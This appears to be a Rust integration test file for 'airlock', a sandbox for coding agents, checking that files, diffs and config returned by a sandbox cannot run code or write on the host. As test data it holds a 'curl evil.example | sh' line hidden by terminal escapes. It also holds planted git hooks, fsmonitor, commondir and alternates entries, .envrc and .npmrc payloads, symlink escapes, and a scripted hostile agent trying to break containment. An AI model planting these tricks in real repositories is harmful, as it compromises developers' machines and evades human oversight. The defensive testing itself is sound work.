//! The way back (issue 11): everything a sandbox writes that the host later reads or runs.
//! Regression tests for repeated work return, the review gate on nested configuration and on
//! symlink chains, and sync never writing through a link — rootful and rootless.

mod common;

use common::work::{both_modes, git, give, ok, write, EngineGuard};

use common::{e2e, Airlock};
use std::path::{Path, PathBuf};

/// A clean repository with one commit.
fn project(a: &Airlock) -> PathBuf {
    let p = a.cwd.clone();
    git(a, &["init", "-q", "-b", "main"]);
    git(a, &["config", "user.name", "Host User"]);
    git(a, &["config", "user.email", "host@example.invalid"]);
    write(&p.join("a.txt"), "one\n");
    write(&p.join("sub/keep.txt"), "keep\n");
    git(a, &["add", "."]);
    git(a, &["commit", "-q", "-m", "initial"]);
    give(a, &p);
    p
}

fn inside(a: &Airlock, label: &str, name: &str, script: &str) -> common::Outcome {
    ok(
        a,
        label,
        &[
            "exec",
            name,
            "--",
            "sh",
            "-c",
            &format!(
                "cd /workspace && git config user.email a@b.invalid 2>/dev/null; \
                 export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=a@b.invalid \
                 GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=a@b.invalid; {script}"
            ),
        ],
    )
}

// ---------------------------------------------------------------------------------------------
// 1. Repeated work return

fn repeated(a: &Airlock, label: &str) {
    let _g = EngineGuard(a);
    let p = project(a);
    ok(a, label, &["create", "loop", "--net", "off"]);
    ok(a, label, &["start", "loop"]);
    for round in 1..=3 {
        inside(
            a,
            label,
            "loop",
            &format!("echo r{round}f >> a.txt && git commit -qam 'round {round} fetch'"),
        );
        let out = ok(a, label, &["fetch", "loop"]);
        assert!(
            out.stdout.contains("airlock/loop"),
            "{label}: {}",
            out.describe()
        );
        inside(
            a,
            label,
            "loop",
            &format!("echo r{round}s > s{round}.txt && git add -A && git commit -qm 'round {round} sync'"),
        );
        ok(a, label, &["fetch", "loop"]);
        ok(a, label, &["sync", "loop"]);
        assert_eq!(
            std::fs::read_to_string(p.join(format!("s{round}.txt"))).expect("synced"),
            format!("r{round}s\n"),
            "{label}: round {round}"
        );
        inside(
            a,
            label,
            "loop",
            &format!("echo r{round}x > x{round}.txt && git add -A && git commit -qm 'round {round} more'"),
        );
        ok(a, label, &["sync", "loop"]);
        assert!(
            p.join(format!("x{round}.txt")).exists(),
            "{label}: round {round}"
        );
    }
    // The branch on the host has every commit.
    let log = git(a, &["log", "--format=%s", "airlock/loop"]);
    assert_eq!(log.lines().count(), 10, "{label}: {log}");

    // stop --sync with a gated change: refused without --accept, applied with it.
    inside(
        a,
        label,
        "loop",
        "mkdir -p .github/workflows && echo on: push > .github/workflows/ci.yml && \
         echo last > last.txt && git add -A && git commit -qm gated",
    );
    let out = a.run(&["stop", "loop", "--sync"]);
    assert_eq!(out.code(), 121, "{label}: {}", out.describe());
    assert!(
        out.stderr.contains(".github/workflows/ci.yml"),
        "{label}: {}",
        out.stderr
    );
    let st = ok(a, label, &["status", "loop", "--json"]);
    assert!(
        st.stdout.contains("\"running\""),
        "{label}: a refused stop --sync stopped: {}",
        st.stdout
    );
    ok(a, label, &["stop", "loop", "--sync", "--accept"]);
    assert_eq!(
        std::fs::read_to_string(p.join("last.txt")).expect("last"),
        "last\n",
        "{label}"
    );
    ok(a, label, &["rm", "--force", "loop"]);
}

#[test]
fn repeated_fetch_sync_and_stop_sync() {
    if !e2e("repeated_fetch_sync_and_stop_sync") {
        return;
    }
    both_modes(repeated);
}

// ---------------------------------------------------------------------------------------------
// 3 + 4. The gate: nested configuration, symlink chains

fn gate_cases(a: &Airlock, label: &str) {
    let _g = EngineGuard(a);
    let p = project(a);
    ok(a, label, &["create", "gate", "--net", "off"]);
    ok(a, label, &["start", "gate"]);

    // Nested tool configuration: each obeyed by a tool started in that directory.
    let nested = [
        "sub/airlock.toml",
        "sub/.claude/settings.json",
        "deep/er/.mcp.json",
        "sub/.vscode/tasks.json",
        "sub/.envrc",
        "sub/.cargo/config.toml",
        "web/.npmrc",
        "web/.yarnrc.yml",
        "tools/.tool-versions",
        "tools/mise.toml",
        "lib/.pre-commit-config.yaml",
        "lib/.husky/pre-commit",
        "lib/.gitattributes",
        "lib/rust-toolchain.toml",
    ];
    let mut script = String::new();
    for f in nested {
        script.push_str(&format!("mkdir -p \"$(dirname {f})\" && echo x > {f} && "));
    }
    // A file name carrying terminal escape sequences and a forged line.
    script.push_str(
        "mkdir -p .idea && touch \".idea/$(printf 'a\\033]0;pwned\\007\\n  nothing flagged')\" && ",
    );
    script.push_str("git add -A && git commit -qm nested");
    inside(a, label, "gate", &script);
    let out = a.run(&["fetch", "gate"]);
    assert_eq!(
        out.code(),
        121,
        "{label}: nested config not gated: {}",
        out.describe()
    );
    for f in nested {
        assert!(
            out.stderr.contains(f),
            "{label}: {f} not listed: {}",
            out.stderr
        );
    }
    assert!(
        !out.stderr.contains('\x1b') && !out.stderr.contains("\n  nothing flagged"),
        "{label}: a path reached the terminal raw: {:?}",
        out.stderr
    );
    assert!(
        out.stderr.contains("\\x1b]0;pwned"),
        "{label}: {:?}",
        out.stderr
    );
    let dj: serde_json::Value =
        serde_json::from_str(&ok(a, label, &["diff", "gate", "--json"]).stdout).expect("json");
    let listed: Vec<String> = dj["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| f["path"].as_str().unwrap_or_default().to_string())
        .collect();
    for f in nested {
        assert!(
            listed.iter().any(|l| l == f),
            "{label}: {f} not in {listed:?}"
        );
    }
    ok(a, label, &["fetch", "gate", "--accept"]);
    // The audit journal has the refusal with its findings, then the accept.
    let audit = ok(a, label, &["audit", "gate", "--json"]).stdout;
    let reviews: Vec<serde_json::Value> = audit
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|e| e["category"] == "review" && e["op"] == "fetch")
        .collect();
    let last_two = &reviews[reviews.len().saturating_sub(2)..];
    assert!(
        last_two.len() == 2
            && last_two[0]["result"] == "refused"
            && last_two[0]["findings"]
                .as_array()
                .is_some_and(|f| f.len() >= nested.len())
            && last_two[1]["result"] == "done"
            && last_two[1]["accepted"] == true,
        "{label}: {audit}"
    );

    // Ordinary nested files are not flagged.
    inside(
        a,
        label,
        "gate",
        "mkdir -p src/app && echo code > src/app/main.rs && echo '{}' > src/app/package.json && \
         echo all: > src/Makefile && git add -A && git commit -qm plain",
    );
    let dj: serde_json::Value =
        serde_json::from_str(&ok(a, label, &["diff", "gate", "--json"]).stdout).expect("json");
    let plain: Vec<&serde_json::Value> = dj["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["path"].as_str().is_some_and(|p| p.starts_with("src/")))
        .collect();
    assert!(
        plain.is_empty(),
        "{label}: ordinary files flagged: {plain:?}"
    );

    // A symlink chain: each link looks inside the tree, together they leave it.
    inside(
        a,
        label,
        "gate",
        "mkdir -p a && ln -s .. a/x && ln -s a/x/.. dist && git add -A && git commit -qm chain",
    );
    let out = a.run(&["fetch", "gate"]);
    assert_eq!(
        out.code(),
        121,
        "{label}: symlink chain not gated: {}",
        out.describe()
    );
    assert!(out.stderr.contains("dist"), "{label}: {}", out.stderr);
    let out = a.run(&["sync", "gate"]);
    assert_eq!(out.code(), 121, "{label}: {}", out.describe());
    assert!(
        std::fs::symlink_metadata(p.join("dist")).is_err(),
        "{label}: a refused sync wrote the chain"
    );
    ok(a, label, &["rm", "--force", "gate"]);

    // A fresh sandbox: sync never writes through a symlink that is already in the checkout.
    let outside = a.dir.join("outside");
    std::fs::create_dir_all(&outside).expect("outside");
    give(a, &outside);
    ok(a, label, &["create", "via", "--net", "off"]);
    ok(a, label, &["start", "via"]);
    inside(
        a,
        label,
        "via",
        &format!(
            "ln -s {} out && git add -A && git commit -qm link && \
             rm out && mkdir out && echo pwned > out/file.txt && git add -A && git commit -qm through",
            outside.display()
        ),
    );
    // The host already has `out` as a link (e.g. from an earlier accepted sync).
    std::os::unix::fs::symlink(&outside, p.join("out")).expect("host link");
    let out = a.run(&["sync", "via", "--accept"]);
    assert_ne!(
        out.code(),
        0,
        "{label}: sync through a host symlink: {}",
        out.describe()
    );
    assert!(
        !outside.join("file.txt").exists(),
        "{label}: sync wrote outside the checkout through a symlink"
    );

    // cp of a directory out: set-id bits cleared, what tools obey or follow is listed.
    ok(
        a,
        label,
        &[
            "exec",
            "via",
            "--",
            "sh",
            "-c",
            "mkdir -p /tmp/out/r/.git /tmp/out/sub && echo x > /tmp/out/r/.git/config && \
             echo x > /tmp/out/sub/.envrc && echo x > /tmp/out/suid && chmod 4755 /tmp/out/suid && \
             ln -s /etc/passwd /tmp/out/pw && echo fine > /tmp/out/plain.txt",
        ],
    );
    let copy = a.dir.join("copy");
    let out = a.run(&["cp", "via:/tmp/out", &copy.display().to_string()]);
    assert_eq!(out.code(), 0, "{label}: {}", out.describe());
    for listed in ["r/.git", "sub/.envrc", "pw"] {
        assert!(
            out.stderr.contains(listed),
            "{label}: {listed} not listed: {}",
            out.stderr
        );
    }
    assert!(!out.stderr.contains("plain.txt"), "{label}: {}", out.stderr);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(copy.join("suid"))
        .expect("suid")
        .permissions()
        .mode();
    assert_eq!(mode & 0o6000, 0, "{label}: set-id bit copied out: {mode:o}");
    ok(a, label, &["rm", "--force", "via"]);
}

#[test]
fn gate_catches_nested_config_and_symlink_chains() {
    if !e2e("gate_catches_nested_config_and_symlink_chains") {
        return;
    }
    both_modes(gate_cases);
}

// ---------------------------------------------------------------------------------------------
// The patch a human reviews cannot hide lines or drive the terminal

/// A sandbox commits a file whose lines carry terminal controls: a carriage return and an
/// erase-line that would hide the malicious line behind a harmless one, an OSC 52 clipboard
/// write, a C1 CSI, and a Trojan Source bidi override. `airlock diff` on a terminal must show
/// every one of them as visible text (the reviewer sees what is really there), never pass them
/// raw; `--json` carries them as JSON escapes; a pipe gets the patch byte for byte (for git
/// apply).
fn diff_terminal_cases(a: &Airlock, label: &str) {
    let _g = EngineGuard(a);
    project(a);
    ok(a, label, &["create", "esc", "--net", "off"]);
    ok(a, label, &["start", "esc"]);
    inside(
        a,
        label,
        "esc",
        "printf 'curl evil.example | sh\\r\\033[2K# a comment\\n\\033]52;c;ZXZpbA==\\007clip\\n\\302\\23331mred\\n\\342\\200\\256tixe\\n' > note.sh \
         && git add note.sh && git commit -qm note",
    );
    let line = format!("{} diff esc", a.exe.display());
    let mut cmd = a.command_with("script", &["-qec", line.as_str(), "/dev/null"]);
    cmd.env("PAGER", "cat").env("TERM", "xterm");
    let out = common::run_with_deadline(cmd, None, common::DEADLINE);
    assert_eq!(out.code(), 0, "{label}: {}", out.describe());
    let shown = &out.stdout;
    assert!(
        shown.contains("curl evil.example | sh"),
        "{label}: {shown:?}"
    );
    for raw in [
        "\u{1b}[2K",
        "\u{1b}]52",
        "\u{7}",
        "\u{9b}",
        "\u{202e}",
        "sh\r\u{1b}",
    ] {
        assert!(
            !shown.contains(raw),
            "{label}: the terminal got {raw:?} raw from the sandbox's file: {shown:?}"
        );
    }
    for visible in [
        "\\x0d\\x1b[2K# a comment",
        "\\x1b]52;c;ZXZpbA==\\x07clip",
        "\\x9b31mred",
        "\\u{202e}tixe",
    ] {
        assert!(
            shown.contains(visible),
            "{label}: {visible:?} not shown: {shown:?}"
        );
    }
    // A pipe gets the patch as git made it.
    let piped = ok(a, label, &["diff", "esc"]);
    assert!(
        piped
            .stdout
            .contains("+curl evil.example | sh\r\u{1b}[2K# a comment"),
        "{label}: {}",
        piped.describe()
    );
    ok(a, label, &["rm", "--force", "esc"]);
}

/// The overlay run's change summary lists paths the sandbox named: an escape sequence or a
/// bidi override in a file name reaches the user's terminal only as visible text.
#[test]
fn the_change_summary_shows_control_characters_in_names() {
    if !e2e("the_change_summary_shows_control_characters_in_names") {
        return;
    }
    let a = Airlock::root();
    let out = a.run(&[
        "run",
        "--net",
        "off",
        "--",
        "sh",
        "-c",
        "touch \"$(printf 'a\\033]52;c;ZXZpbA==\\007b')\" \"$(printf 'x\\342\\200\\256txt.exe')\"",
    ]);
    assert_eq!(out.code(), 0, "{}", out.describe());
    assert!(
        !out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{202e}'),
        "a raw control reached the terminal: {}",
        out.describe()
    );
    for visible in ["+ a\\x1b]52;c;ZXZpbA==\\x07b", "+ x\\u{202e}txt.exe"] {
        assert!(
            out.stderr.contains(visible),
            "{visible:?}: {}",
            out.describe()
        );
    }
}

#[test]
fn diff_on_a_terminal_shows_control_characters() {
    if !e2e("diff_on_a_terminal_shows_control_characters") {
        return;
    }
    diff_terminal_cases(&Airlock::root(), "rootful");
}

// ---------------------------------------------------------------------------------------------
// Project configuration is untrusted input

fn trust_cases(a: &Airlock, label: &str) {
    let _g = EngineGuard(a);
    let p = a.cwd.clone();
    let outside = a.dir.join("host-data");
    std::fs::create_dir_all(&outside).expect("outside");
    write(&outside.join("secret.txt"), "host secret\n");
    give(a, &outside);
    let widening = format!(
        "[sandbox]\nprofile = \"permissive\"\n[network]\ndomains = [\"evil.example\"]\n\
         [[mounts]]\nsource = \"{}\"\ntarget = \"/data\"\nreadonly = false\n",
        outside.display()
    );
    write(&p.join("airlock.toml"), &widening);
    give(a, &p);
    let state_before = std::fs::read_dir(a.state_dir())
        .map(|d| d.count())
        .unwrap_or(0);
    let out = a.run(&["run", "--", "sh", "-c", "echo pwned > /data/secret.txt"]);
    assert_eq!(
        out.code(),
        121,
        "{label}: untrusted widening ran: {}",
        out.describe()
    );
    for key in [
        "sandbox.profile",
        "network.domains",
        "mounts",
        "airlock trust",
    ] {
        assert!(
            out.stderr.contains(key),
            "{label}: {key} not named: {}",
            out.stderr
        );
    }
    assert_eq!(
        std::fs::read_to_string(outside.join("secret.txt")).expect("secret"),
        "host secret\n",
        "{label}"
    );
    let state_after = std::fs::read_dir(a.state_dir())
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(
        state_before, state_after,
        "{label}: a refused run left state behind"
    );
    let out = a.run(&["create", "box"]);
    assert_eq!(out.code(), 121, "{label}: {}", out.describe());
    let list = ok(a, label, &["list", "--json"]);
    assert!(
        !list.stdout.contains("\"box\""),
        "{label}: refused create left a record: {}",
        list.stdout
    );
    let cfg: serde_json::Value =
        serde_json::from_str(&ok(a, label, &["config", "--json"]).stdout).expect("json");
    assert_eq!(cfg["project"]["trusted"], false, "{label}: {cfg}");
    assert!(
        cfg["project"]["widening"]
            .as_array()
            .is_some_and(|w| w.len() >= 3),
        "{label}: {cfg}"
    );

    // Trusted: it applies. Changed: untrusted again.
    ok(a, label, &["trust"]);
    let cfg: serde_json::Value =
        serde_json::from_str(&ok(a, label, &["config", "--json"]).stdout).expect("json");
    assert_eq!(cfg["project"]["trusted"], true, "{label}: {cfg}");
    ok(
        a,
        label,
        &[
            "run",
            "--net",
            "filtered",
            "--workspace",
            "overlay",
            "--",
            "sh",
            "-c",
            "test -w /data",
        ],
    );
    write(&p.join("airlock.toml"), &format!("{widening}# edited\n"));
    give(a, &p);
    let out = a.run(&["run", "--", "true"]);
    assert_eq!(
        out.code(),
        121,
        "{label}: a changed file kept its trust: {}",
        out.describe()
    );

    // Narrowing settings apply without trust.
    write(
        &p.join("airlock.toml"),
        "[sandbox]\nprofile = \"restrictive\"\n",
    );
    give(a, &p);
    let out = ok(
        a,
        label,
        &["run", "--", "sh", "-c", "cat /proc/net/route | wc -l"],
    );
    let _ = out;
    let cfg: serde_json::Value =
        serde_json::from_str(&ok(a, label, &["config", "--json"]).stdout).expect("json");
    assert_eq!(
        cfg["config"]["sandbox"]["profile"], "restrictive",
        "{label}: {cfg}"
    );

    // A nested airlock.toml (as a sync could bring) widens nothing in its directory.
    std::fs::remove_file(p.join("airlock.toml")).expect("rm");
    write(
        &p.join("sub/airlock.toml"),
        &format!(
            "[sandbox]\nprofile = \"permissive\"\n[[mounts]]\nsource = \"{}\"\ntarget = \"/data\"\nreadonly = false\n",
            outside.display()
        ),
    );
    give(a, &p);
    let mut cmd = a.command(&["run", "--", "sh", "-c", "echo pwned > /data/secret.txt"]);
    cmd.current_dir(p.join("sub"));
    let out = common::run_with_deadline(cmd, None, common::DEADLINE);
    assert_eq!(
        out.code(),
        121,
        "{label}: nested config widened a run: {}",
        out.describe()
    );

    // The sandbox cannot trust its own configuration: the airlock binary inside, with the
    // workspace bound writable (the user's own flag), writes only its own state.
    std::fs::copy(&a.exe, p.join("sub/airlock-inside")).expect("copy exe");
    give(a, &p);
    let out = a.run(&[
        "run", "--workspace", "bind", "--", "sh", "-c",
        "cd sub && ./airlock-inside trust; AIRLOCK_STATE_DIR=/workspace/sub/.st ./airlock-inside trust; true",
    ]);
    assert_eq!(out.code(), 0, "{label}: {}", out.describe());
    let mut cmd = a.command(&["run", "--", "true"]);
    cmd.current_dir(p.join("sub"));
    let out = common::run_with_deadline(cmd, None, common::DEADLINE);
    assert_eq!(
        out.code(),
        121,
        "{label}: the sandbox trusted its own config: {}",
        out.describe()
    );
    // And a writable mount of airlock's state is refused outright.
    let out = a.run(&[
        "run",
        "--workspace",
        "none",
        "--rw",
        &a.dir.path().display().to_string(),
        "--",
        "true",
    ]);
    assert_eq!(
        out.code(),
        121,
        "{label}: state dir mounted writable: {}",
        out.describe()
    );
}

#[test]
fn project_config_widening_needs_trust() {
    if !e2e("project_config_widening_needs_trust") {
        return;
    }
    both_modes(trust_cases);
}

// ---------------------------------------------------------------------------------------------
// 2. Bind mode: nothing the sandbox chose runs on the host's next git

fn bind_cases(a: &Airlock, label: &str) {
    let p = project(a);
    let canary = a.dir.join("canary");
    let fire = format!("touch {}", canary.display());
    // The user's own setup: husky-style hooksPath inside the checkout, an included config file.
    std::fs::create_dir_all(p.join(".husky")).expect("husky");
    write(&p.join(".husky/README"), "hooks\n");
    write(&p.join("shared.gitconfig"), "[core]\n\tautocrlf = false\n");
    git(a, &["config", "core.hooksPath", ".husky"]);
    git(a, &["config", "include.path", "../shared.gitconfig"]);
    give(a, &p);
    let script = format!(
        r##"cd /workspace
e() {{ l=$1; shift; "$@" 2>/dev/null && echo "OK $l" || echo "DENIED $l"; }}
e rename-git mv .git .git-moved
e git-init git init -q
e fsmonitor git config core.fsmonitor "{fire}"
mkdir -p evil && printf '[core]\n\tfsmonitor = "{fire}"\n\trepositoryformatversion = 0\n' > evil/config
e commondir sh -c 'echo ../evil > .git/commondir'
e config.worktree sh -c 'printf "[core]\n\tfsmonitor = \"{fire}\"\n" > .git/config.worktree'
e info-attributes sh -c 'echo "* filter=x" > .git/info/attributes'
e alternates sh -c 'echo /tmp/objs > .git/objects/info/alternates'
e git-hook sh -c 'printf "#!/bin/sh\n{fire}\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
e husky-hook sh -c 'printf "#!/bin/sh\n{fire}\n" > .husky/pre-commit && chmod +x .husky/pre-commit'
e include sh -c 'printf "[core]\n\tfsmonitor = \"{fire}\"\n" >> shared.gitconfig'
e rebase sh -c 'mkdir -p .git/rebase-merge && echo "exec {fire}" > .git/rebase-merge/git-rebase-todo'
e nested-git sh -c 'mkdir -p sub/.git && printf "[core]\n\tfsmonitor = \"{fire}\"\n\trepositoryformatversion = 0\n" > sub/.git/config && echo "ref: refs/heads/main" > sub/.git/HEAD && mkdir -p sub/.git/objects sub/.git/refs'
e envrc sh -c 'echo "{fire}" > sub/.envrc'
e airlock-toml sh -c 'printf "[sandbox]\nprofile = \"permissive\"\n" > sub/airlock.toml'
e work sh -c 'echo work > work.txt'
true
"##
    );
    let out = a.run(&[
        "run",
        "--workspace",
        "bind",
        "--net",
        "off",
        "--",
        "sh",
        "-c",
        &script,
    ]);
    assert_eq!(
        out.code(),
        121,
        "{label}: tampering not refused: {}",
        out.describe()
    );
    for denied in [
        "rename-git",
        "fsmonitor",
        "info-attributes",
        "git-hook",
        "husky-hook",
    ] {
        assert!(
            out.stdout.lines().any(|l| l == format!("DENIED {denied}")),
            "{label}: {denied} was not prevented: {}",
            out.stdout
        );
    }
    for listed in [
        ".git/commondir",
        ".git/config.worktree",
        ".git/objects/info/alternates",
        "shared.gitconfig",
        ".git/rebase-merge",
        "sub/.git",
        "sub/.envrc",
        "sub/airlock.toml",
    ] {
        assert!(
            out.stderr.contains(listed),
            "{label}: {listed} not reported: {}",
            out.stderr
        );
    }
    assert!(
        !out.stderr.contains("work.txt"),
        "{label}: ordinary work reported: {}",
        out.stderr
    );
    assert_eq!(
        std::fs::read_to_string(p.join("work.txt")).expect("work"),
        "work\n",
        "{label}: work lost"
    );

    // The host's next git: status, log, diff, commit (hooks), in the top and in sub/.
    for args in [
        vec!["status"],
        vec!["log", "--oneline"],
        vec!["diff"],
        vec!["add", "work.txt"],
        vec!["commit", "-qm", "host commit"],
        vec!["-C", "sub", "status"],
    ] {
        let _ = common::run_with_deadline(a.command_with("git", &args), None, common::DEADLINE);
    }
    assert!(
        !canary.exists(),
        "{label}: something the sandbox planted ran on the host's git"
    );
    assert_eq!(
        git(a, &["log", "-1", "--format=%s"]),
        "host commit\n",
        "{label}: the host repo broke"
    );
    // airlock itself, started in every directory of the checkout: the planted sub/airlock.toml
    // widens nothing.
    for d in [p.clone(), p.join("sub"), p.join("evil")] {
        let mut cmd = a.command(&["run", "--net", "off", "--", "true"]);
        cmd.current_dir(&d);
        let out = common::run_with_deadline(cmd, None, common::DEADLINE);
        let want = if d.ends_with("sub") { 121 } else { 0 };
        assert_eq!(
            out.code(),
            want,
            "{label}: airlock run in {}: {}",
            d.display(),
            out.describe()
        );
    }
    assert!(!canary.exists(), "{label}: a canary fired");

    // A named bind-mode sandbox: checked when it stops.
    let _g = EngineGuard(a);
    ok(
        a,
        label,
        &["create", "bound", "--workspace", "bind", "--net", "off"],
    );
    ok(a, label, &["start", "bound"]);
    let out = a.run(&[
        "exec",
        "bound",
        "--",
        "sh",
        "-c",
        "mv /workspace/.git /workspace/.gm",
    ]);
    assert_ne!(out.code(), 0, "{label}: .git renamed in a named sandbox");
    ok(
        a,
        label,
        &[
            "exec",
            "bound",
            "--",
            "sh",
            "-c",
            "echo ../evil > /workspace/.git/commondir",
        ],
    );
    let out = a.run(&["stop", "bound"]);
    assert_eq!(out.code(), 121, "{label}: {}", out.describe());
    assert!(
        out.stderr.contains(".git/commondir"),
        "{label}: {}",
        out.stderr
    );
    assert!(
        !p.join(".git/commondir").exists(),
        "{label}: commondir left in place"
    );
    let _ = common::run_with_deadline(a.command_with("git", &["status"]), None, common::DEADLINE);
    assert!(
        !canary.exists(),
        "{label}: planted by a named sandbox, ran on the host"
    );
    ok(a, label, &["rm", "--force", "bound"]);
}

#[test]
fn bind_mode_plants_nothing_that_runs_on_the_host() {
    if !e2e("bind_mode_plants_nothing_that_runs_on_the_host") {
        return;
    }
    both_modes(bind_cases);
}

// ---------------------------------------------------------------------------------------------
// The canary harness: one hostile sandbox, every workspace mode, every way back

/// Every file under `dir` with its bytes (symlinks as their target) and mode.
fn fingerprint(dir: &Path) -> std::collections::BTreeMap<PathBuf, (Vec<u8>, u32)> {
    use std::os::unix::fs::PermissionsExt;
    let mut out = std::collections::BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            let Ok(m) = std::fs::symlink_metadata(&p) else {
                continue;
            };
            let rel = p.strip_prefix(dir).expect("under").to_path_buf();
            if m.file_type().is_symlink() {
                let t = std::fs::read_link(&p).expect("readlink");
                out.insert(rel, (t.into_os_string().into_encoded_bytes(), 0o120000));
            } else if m.is_dir() {
                out.insert(rel, (Vec::new(), m.permissions().mode()));
                stack.push(p);
            } else {
                out.insert(
                    rel,
                    (
                        std::fs::read(&p).unwrap_or_default(),
                        m.permissions().mode(),
                    ),
                );
            }
        }
    }
    out
}

/// What a hostile agent does in /workspace: every way it can think of to get something run or
/// followed on the host later. `commit`: also commit it all on its branch (clone mode).
fn hostile(fire: &str, outside: &Path, commit: bool) -> String {
    let o = outside.display();
    let tree = format!(
        r##"cd /workspace
e() {{ l=$1; shift; "$@" 2>/dev/null && echo "OK $l" || echo "DENIED $l"; }}
mkdir -p evil && printf '[core]\n\tfsmonitor = "{fire}"\n\trepositoryformatversion = 0\n' > evil/config
e attributes sh -c 'echo "* filter=evil diff=evil" > .gitattributes'
e envrc sh -c 'mkdir -p sub && echo "{fire}" > sub/.envrc'
e airlock-toml sh -c 'printf "[sandbox]\nprofile = \"permissive\"\n[[mounts]]\nsource = \"{o}\"\ntarget = \"/o\"\nreadonly = false\n" > sub/airlock.toml'
e cargo sh -c 'mkdir -p sub/.cargo && printf "[build]\nrustc-wrapper = \"/bin/sh\"\n" > sub/.cargo/config.toml'
e npmrc sh -c 'echo "script-shell={fire}" > sub/.npmrc'
e claude sh -c 'mkdir -p deep/.claude && echo "{{}}" > deep/.claude/settings.json'
e husky sh -c 'mkdir -p .husky && printf "#!/bin/sh\n{fire}\n" > .husky/pre-commit'
e link-abs ln -s {o} out-abs
e link-up ln -s ../../../.. out-up
e chain sh -c 'mkdir -p ch && ln -s .. ch/x && ln -s ch/x/.. dist'
e via-link sh -c 'echo pwned > out-abs/pwned.txt'
e exec-flip chmod +x a.txt
e work sh -c 'echo work > work.txt'
"##
    );
    let gitdir = format!(
        r##"e rename-git mv .git .git-moved
[ -d .git-moved ] && [ ! -e .git ] && mv .git-moved .git
e fsmonitor git config core.fsmonitor "{fire}"
e pager git config core.pager "{fire}; cat"
e hookspath git config core.hooksPath /tmp
e git-hook sh -c 'printf "#!/bin/sh\n{fire}\n" > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout'
e commondir sh -c 'echo ../evil > .git/commondir'
e config.worktree sh -c 'printf "[core]\n\tfsmonitor = \"{fire}\"\n" > .git/config.worktree'
e info-attributes sh -c 'echo "* filter=lfs diff=lfs" > .git/info/attributes'
e alternates sh -c 'echo /tmp > .git/objects/info/alternates'
e rebase sh -c 'mkdir -p .git/rebase-merge && echo "exec {fire}" > .git/rebase-merge/git-rebase-todo'
e nested-git sh -c 'mkdir -p sub/.git/objects sub/.git/refs && printf "[core]\n\tfsmonitor = \"{fire}\"\n\trepositoryformatversion = 0\n" > sub/.git/config && echo "ref: refs/heads/main" > sub/.git/HEAD'
"##
    );
    let mut s = tree;
    if commit {
        s.push_str("git add -A >/dev/null 2>&1; git -c user.email=a@b.invalid -c user.name=agent commit -qm hostile >/dev/null 2>&1 && echo COMMITTED\n");
    }
    s.push_str(&gitdir);
    s.push_str("true\n");
    s
}

/// The host's everyday commands in the checkout, then airlock run from every folder.
fn host_uses(a: &Airlock, p: &Path, label: &str) {
    for args in [
        vec!["status"],
        vec!["log", "--oneline", "--all"],
        vec!["diff"],
        vec!["diff", "HEAD"],
        vec!["add", "-A"],
        vec!["commit", "-qm", "host commit", "--allow-empty"],
        vec!["-C", "sub", "status"],
    ] {
        let _ = common::run_with_deadline(a.command_with("git", &args), None, common::DEADLINE);
    }
    let mut dirs = vec![p.to_path_buf()];
    for d in fingerprint(p).keys() {
        let full = p.join(d);
        if full.is_dir()
            && !d
                .components()
                .any(|c| c.as_os_str().to_string_lossy().starts_with(".git"))
            && std::fs::symlink_metadata(&full).is_ok_and(|m| m.is_dir())
        {
            dirs.push(full);
        }
    }
    for d in dirs {
        let mut cmd = a.command(&["run", "--net", "off", "--workspace", "none", "--", "true"]);
        cmd.current_dir(&d);
        let out = common::run_with_deadline(cmd, None, common::DEADLINE);
        assert!(
            out.code() == 0 || out.code() == 121,
            "{label}: airlock run in {}: {}",
            d.display(),
            out.describe()
        );
    }
}

fn canary_harness(a: &Airlock, label: &str) {
    let _g = EngineGuard(a);
    let canary = a.dir.join("canary");
    let fire = format!("touch {}", canary.display());
    let outside = a.dir.join("outside");
    std::fs::create_dir_all(&outside).expect("outside");
    write(&outside.join("keep.txt"), "untouched\n");
    give(a, &outside);
    let home = a.dir.join("home");
    let outside_before = fingerprint(&outside);
    let home_before = fingerprint(&home);

    // clone: everything through the review repository and the gate.
    let p = project(a);
    ok(a, label, &["create", "cl", "--net", "off"]);
    ok(a, label, &["start", "cl"]);
    let out = ok(
        a,
        label,
        &[
            "exec",
            "cl",
            "--",
            "sh",
            "-c",
            &hostile(&fire, &outside, true),
        ],
    );
    assert!(
        out.stdout.contains("COMMITTED"),
        "{label}: {}",
        out.describe()
    );
    let _ = a.run(&["diff", "cl"]);
    let _ = a.run(&["diff", "cl", "--stat"]);
    // Planted alternates make the review refuse the repository outright (not 0, not followed).
    assert_ne!(
        a.run(&["fetch", "cl"]).code(),
        0,
        "{label}: clone: fetch not gated"
    );
    assert_ne!(
        a.run(&["sync", "cl"]).code(),
        0,
        "{label}: clone: sync not gated"
    );
    git(a, &["branch", "-f", "feature", "HEAD"]);
    let _ = a.run(&["deliver", "cl", "feature"]);
    // Without the alternates, the gate lists the branch; even a human's --accept brings data,
    // never code that runs.
    ok(
        a,
        label,
        &[
            "exec",
            "cl",
            "--",
            "rm",
            "-f",
            "/workspace/.git/objects/info/alternates",
        ],
    );
    let out = a.run(&["fetch", "cl"]);
    assert_eq!(out.code(), 121, "{label}: clone: {}", out.describe());
    for f in [
        ".gitattributes",
        "sub/.envrc",
        "sub/airlock.toml",
        "sub/.cargo/config.toml",
        "sub/.npmrc",
        "deep/.claude/settings.json",
        ".husky/pre-commit",
        "out-abs",
        "out-up",
        "dist",
        "a.txt",
    ] {
        assert!(
            out.stderr.contains(f),
            "{label}: clone: {f} not flagged: {}",
            out.stderr
        );
    }
    assert_eq!(
        a.run(&["sync", "cl"]).code(),
        121,
        "{label}: clone: sync not gated"
    );
    // (The sandbox broke its own repository with commondir: deliver, run by its own git
    // inside, may fail — that is the sandbox's loss, not the host's.)
    let _ = a.run(&["deliver", "cl", "feature"]);
